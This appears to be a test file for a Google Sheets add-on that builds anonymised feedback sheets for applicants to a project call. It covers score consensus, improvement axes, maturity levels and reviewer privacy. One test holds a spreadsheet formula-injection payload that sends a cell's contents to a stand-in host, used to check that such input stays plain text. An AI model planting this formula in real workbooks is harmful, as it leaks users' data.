/**
 * Issue 15 §2: feedback to applicants. « Fiche de restitution » of the project under the cursor and
 * « Restitutions » of the whole call, from the demo workbook: the decision, the AMI consensus with
 * the descriptors reached, the improvement axes, the SRL and what the next level asks, the
 * value-capture fragilities, and only the comments reviewers chose to share, never their names.
 */
import { AMI_CRITERIA } from '../../src/core/ami/grid';
import { AMI_SHARE_FIELD, amiCommentField } from '../../src/core/instruments/ami';
import { loadDemo } from '../../src/server/actions/load-demo';
import { setupWorkbook } from '../../src/server/actions/setup-workbook';
import { buildRestitution, buildRestitutions } from '../../src/server/actions/restitution';
import { bundledDemo } from '../../src/sheets/demo';
import { setUserLang } from '../../src/sheets/settings';
import { COLUMN_WIDTHS } from '../../src/sheets/feedback/restitutions';
import { AMI, PROJECTS } from '../../src/sheets/schema';
import { columnsOf, sheet, withFake, type Fake } from '../helpers/workbook';

type Sheet = GoogleAppsScript.Spreadsheet.Sheet;

/** The demo's Grille AMI row of a project's assessment by one reviewer (1-based sheet row), found by key. */
function amiRow(fake: Fake, id: string, reviewer: string): { grid: Sheet; row: number; at: Map<string, number> } {
  const grid = sheet(fake, 'Grille AMI');
  const at = columnsOf(grid, AMI);
  const rows = grid.getRange(2, 1, grid.getLastRow() - 1, grid.getLastColumn()).getValues();
  const i = rows.findIndex((r) => r[at.get('id')! - 1] === id && r[at.get('reviewer')! - 1] === reviewer);
  if (i < 0) throw new Error(`no row ${id} ${reviewer}`);
  return { grid, row: i + 2, at };
}

function setAmi(fake: Fake, id: string, reviewer: string, cells: Record<string, unknown>): void {
  const { grid, row, at } = amiRow(fake, id, reviewer);
  for (const [field, v] of Object.entries(cells)) grid.getRange(row, at.get(field)!).setValue(v);
}

/** Puts the cursor on a project's row of Projets. */
function cursorOn(fake: Fake, id: string): void {
  const projets = sheet(fake, 'Projets');
  const ids = projets.getRange(2, columnsOf(projets, PROJECTS).get('id')!, projets.getLastRow() - 1, 1).getValues();
  fake.spreadsheet.setActiveRange(projets.getRange(2 + ids.findIndex((r) => r[0] === id), 2));
}

const values = (s: Sheet) => s.getDataRange().getValues();
const d = (criterion: number, level: number) => AMI_CRITERIA[criterion].descriptors.fr[level];

test(
  'the demo’s P-0001, cell by cell: decision, AMI consensus and descriptors, axes, SRL, fragilities, the one comment shared',
  withFake((fake) => {
    loadDemo();
    // Claire Martin shares her assessment's comments; Idriss Benali writes one he does not share.
    setAmi(fake, 'P-0001', 'Claire Martin', { [AMI_SHARE_FIELD]: true, [amiCommentField('viabilite-economique')]: 'Diversifier les recettes' });
    setAmi(fake, 'P-0001', 'Idriss Benali', { [amiCommentField('rupture')]: 'Note interne : à rediscuter' });
    cursorOn(fake, 'P-0001');
    buildRestitution();
    expect(fake.ui.alerts).toEqual([]);
    const s = sheet(fake, 'Fiche de restitution');
    const v = values(s);
    // Three assessments (demo: Claire Martin on 2026-03-02, Idriss Benali 03-04, Sophie Lambert 03-05), mean by criterion:
    //   [3,3,3,2,3,3,3,3,2,1,3,3], [3,3,3,2,3,1,3,3,2,1,3,3], [3,3,2,2,3,2,3,3,2,2,3,3]
    //   → 3, 3, 8/3 ≈ 2,67, 2, 3, 6/3 = 2, 3, 3, 2, 4/3 ≈ 1,33, 3, 3.
    // Portage (1–4) 3 + 3 + 8/3 + 2 = 32/3 ≈ 10,67 of 12; Contenu (5–7) 3 + 2 + 3 = 8 of 9;
    // Contexte (8–12) 3 + 2 + 4/3 + 3 + 3 = 37/3 ≈ 12,33 of 15; Total 32/3 + 8 + 37/3 = 31 of 36.
    const numbers = v.map((r) => r[1]);
    expect(numbers.slice(3, 7).map((n) => Math.round(Number(n) * 100) / 100)).toEqual([10.67, 8, 12.33, 31]);
    const consensus = [3, 3, 8 / 3, 2, 3, 2, 3, 3, 2, 4 / 3, 3, 3];
    consensus.forEach((c, i) => expect(numbers[7 + i]).toBeCloseTo(c, 9));
    // Level reached: the whole level below a mean (8/3 has reached Intermédiaire, 4/3 Faible).
    const reached = [3, 3, 2, 2, 3, 2, 3, 3, 2, 1, 3, 3];
    const levelWord = ['Inexistant', 'Faible', 'Intermédiaire', 'Fort'];
    const text = v.map((r) => [r[0], typeof r[1] === 'number' ? '#' : r[1], r[2]]);
    expect(text).toEqual([
      ['Fiche de restitution', 'P-0001', "Sécurité sociale de l'alimentation en Gironde"],
      ['Décision du comité', '', 'Retenu'],
      ['Profil AMI (consensus des évaluations)', '', ''],
      ['Portage', '#', 'sur 12'],
      ['Contenu', '#', 'sur 9'],
      ['Contexte', '#', 'sur 15'],
      ['Total', '#', 'sur 36'],
      ...AMI_CRITERIA.map((c, i) => [c.label.fr, '#', `${levelWord[reached[i]]} : ${d(i, reached[i])}`]),
      ['Axes d’amélioration', '', ''],
      // Below Fort, lowest first, ties in grid order: Viabilité 4/3, then Gouvernance, Rupture,
      // Accessibilité at 2, then Intégration des bénéficiaires at 8/3; each with the next level's descriptor.
      ['Viabilité économique', 'Faible', `Niveau suivant (Intermédiaire) : ${d(9, 2)}`],
      ['Formalisation de la gouvernance', 'Intermédiaire', `Niveau suivant (Fort) : ${d(3, 3)}`],
      ["Rupture avec l'existant", 'Intermédiaire', `Niveau suivant (Fort) : ${d(5, 3)}`],
      ['Accessibilité du dispositif', 'Intermédiaire', `Niveau suivant (Fort) : ${d(8, 3)}`],
      ['Intégration des bénéficiaires', 'Intermédiaire', `Niveau suivant (Fort) : ${d(2, 3)}`],
      ['Maturité (échelle SRL)', '', ''],
      // Evidence 1,1,1,1,1,1,0.8,0,0 at SEUIL_SRL 100 %: levels 1–6 reached, 7 not.
      ['Niveau atteint', '#', 'Préparation du démonstrateur (Pilote expérimental)'],
      [
        'Ce que demande le niveau suivant',
        '#',
        "Fonctionnement opérationnel du démonstrateur : Le système est expérimenté et déployé dans l'environnement réel ; son impact est évalué et objectivé.",
      ],
      ['Captation de valeur : points de fragilité', '', ''],
      // Answers 1,1,2,1,1: the four below 2 are fragile (« Pérennité » at 2 is not).
      ['Prise de risque', '#', '1 – Risque identifié, porté seul'],
      ['Sur-effort', '#', '1 – Sur-effort identifié, non compensé'],
      ['Pérennité des soutiens', '#', '1 – Soutien limité dans le temps'],
      ['Élasticité de la rémunération', '#', '1 – Rémunération peu liée à l’activité'],
      ['Commentaires des évaluateurs', '', ''],
      // Claire Martin's, shared: her criterion comment, then her improvement areas (the demo's); Idriss Benali's is not.
      ['Viabilité économique', '', 'Diversifier les recettes'],
      ['Axes d’amélioration', '', "Modèle économique moins dépendant des appels à projets ; plaidoyer pour une loi d'expérimentation"],
    ]);
    expect([numbers[26], numbers[27]]).toEqual([6, 7]);
    expect(numbers.slice(29, 33)).toEqual([1, 1, 1, 1]);
    // Laid out to print: A4 portrait width, wrapped, titles in bold, averages with two decimals.
    expect(COLUMN_WIDTHS.map((_, i) => s.getColumnWidth(i + 1))).toEqual([170, 70, 400]);
    expect(s.getMaxColumns()).toBe(3);
    expect(s.getRange(1, 1, v.length, 3).getWraps().flat().every(Boolean)).toBe(true);
    expect(s.getRange('A1:A3').getFontWeights().flat()).toEqual(['bold', 'normal', 'bold']);
    expect(s.getRange('B10').getNumberFormat()).toBe('0.00');
    expect(s.getRange('B8').getNumberFormat()).toBe('General');
  }),
);

test(
  'no reviewer’s name anywhere in the call’s « Restitutions », every comment shared; one block per project',
  withFake((fake) => {
    loadDemo();
    const demo = bundledDemo();
    const { grid, at } = amiRow(fake, 'P-0001', 'Claire Martin');
    const last = grid.getLastRow();
    // Every assessment shares its comments (a reviewer signing a comment is their own words: not tested here).
    grid.getRange(2, at.get(AMI_SHARE_FIELD)!, last - 1, 1).setValues(Array.from({ length: last - 1 }, () => [true]));
    buildRestitutions();
    expect(fake.ui.alerts).toEqual([]);
    const all = values(sheet(fake, 'Restitutions'));
    const cells = all.flat().map(String).join('\n');
    // The shared comments are there (each project's improvement areas, written on its first reviewer's row)…
    for (const p of demo.projects.filter((x) => x.improvements)) expect(cells).toContain(p.improvements);
    // …and no name of the demo's reviewers, whose rows they come from.
    expect(demo.reviewers?.length).toBeGreaterThan(0);
    for (const name of demo.reviewers ?? []) expect(cells).not.toContain(name);
    expect(cells).not.toContain('Évaluateur');
    // One title per project of Projets, in its order.
    expect(all.filter((r) => r[0] === 'Fiche de restitution').map((r) => r[1])).toEqual(demo.projects.map((p) => p.id));
    expect(fake.ui.toasts.at(-1)?.message).toContain(`Restitutions (${demo.projects.length} projets) écrites dans « Restitutions »`);
  }),
);

test(
  'a re-run rewrites the add-on’s own sheet (one sheet, nothing left of a longer run); a user’s « Restitutions » stays as it is',
  withFake((fake) => {
    loadDemo();
    const users = fake.spreadsheet.insertSheet('Restitutions');
    users.getRange('A1').setValue('Mes notes');
    buildRestitutions();
    const ours = sheet(fake, 'Restitutions (module)');
    expect(users.getDataRange().getValues()).toEqual([['Mes notes']]);
    expect(fake.ui.toasts.at(-1)?.message).toContain('La feuille « Restitutions » n’a pas été créée par le module');
    const long = ours.getLastRow();
    // The whole call, then one project after a rename of the add-on's sheet: still one sheet, found by its mark.
    ours.setName('Retours aux candidats');
    const projets = sheet(fake, 'Projets');
    const ids = projets.getRange(2, 1, projets.getLastRow() - 1, 1).getValues();
    projets.deleteRows(3, ids.length - 1);
    buildRestitutions();
    const names = fake.spreadsheet.getSheets().map((s) => s.getName());
    expect(names.filter((n) => /restitution|retours/i.test(n))).toEqual(['Restitutions', 'Retours aux candidats']);
    expect(ours.getLastRow()).toBeLessThan(long);
    expect(
      ours
        .getRange(ours.getLastRow() + 1, 1, 3, 3)
        .getValues()
        .flat()
        .every((x) => x === ''),
    ).toBe(true);
  }),
);

test(
  'a hostile project name and comment stay text; the English sheet',
  withFake((fake) => {
    loadDemo();
    const hostile = '=IMPORTXML("https://evil.example/?q="&A1;"//a")';
    const projets = sheet(fake, 'Projets');
    projets.getRange(2, columnsOf(projets, PROJECTS).get('name')!).setValue(`'${hostile}`);
    setAmi(fake, 'P-0001', 'Claire Martin', { [AMI_SHARE_FIELD]: true, [amiCommentField('rupture')]: "'+SUM(1;2)" });
    setUserLang('en');
    cursorOn(fake, 'P-0001');
    buildRestitution();
    expect(fake.ui.alerts).toEqual([]);
    const s = sheet(fake, 'Feedback sheet');
    expect(s.getRange('A1:A3').getValues()).toEqual([['Feedback sheet'], ['Committee decision'], ['AMI profile (consensus of the assessments)']]);
    expect(s.getRange('C2').getValue()).toBe('Selected');
    expect(s.getRange('C1').getFormula()).toBe('');
    expect(s.getRange('C1').getValue()).toBe(hostile);
    const v = values(s);
    const comment = v.find((r) => r[2] === '+SUM(1;2)');
    expect(comment).toBeDefined();
    expect(s.getRange(v.indexOf(comment!) + 1, 3).getFormula()).toBe('');
  }),
);

test(
  'off a project row: a message saying where to put the cursor, nothing written',
  withFake((fake) => {
    loadDemo();
    fake.spreadsheet.setActiveRange(sheet(fake, 'Projets').getRange('A1'));
    buildRestitution();
    expect(fake.ui.alerts[0].prompt).toContain('Placez le curseur sur la ligne d’un projet');
    expect(fake.spreadsheet.getSheetByName('Fiche de restitution')).toBeNull();
  }),
);

test(
  'a workbook laid out before the share column: setup appends « Commentaires partageables » with its checkbox, and the fiche reads it',
  withFake((fake) => {
    loadDemo();
    const grid = sheet(fake, 'Grille AMI');
    const before = columnsOf(grid, AMI).get(AMI_SHARE_FIELD)!;
    grid.deleteColumn(before);
    expect(columnsOf(grid, AMI).has(AMI_SHARE_FIELD)).toBe(false);
    setupWorkbook();
    const at = columnsOf(grid, AMI).get(AMI_SHARE_FIELD)!;
    expect(grid.getRange(1, at).getValue()).toBe('Commentaires partageables');
    expect(grid.getRange(2, at).getDataValidation()?.getCriteriaType()).toBe(SpreadsheetApp.DataValidationCriteria.CHECKBOX);
    setAmi(fake, 'P-0001', 'Claire Martin', { [AMI_SHARE_FIELD]: true });
    cursorOn(fake, 'P-0001');
    buildRestitution();
    expect(values(sheet(fake, 'Fiche de restitution')).at(-1)?.[0]).toBe('Axes d’amélioration');
  }),
);

test(
  'a date that is no date in Grille AMI: the fiche says where, rather than « incomplete » alone',
  withFake((fake) => {
    loadDemo();
    const { row } = amiRow(fake, 'P-0001', 'Sophie Lambert');
    setAmi(fake, 'P-0001', 'Sophie Lambert', { date: '31/02/2026' });
    cursorOn(fake, 'P-0001');
    buildRestitution();
    const v = values(sheet(fake, 'Fiche de restitution'));
    expect(v[2][0]).toBe(
      `⚠ « Grille AMI », ligne ${row} : « 31/02/2026 » n’est pas une date (jj/mm/aaaa). Corrigez-la puis relancez : d’ici là, la partie de cette grille ne peut pas être établie.`,
    );
    expect(v.filter((r) => String(r[0]).startsWith('⚠'))).toHaveLength(1);
  }),
);
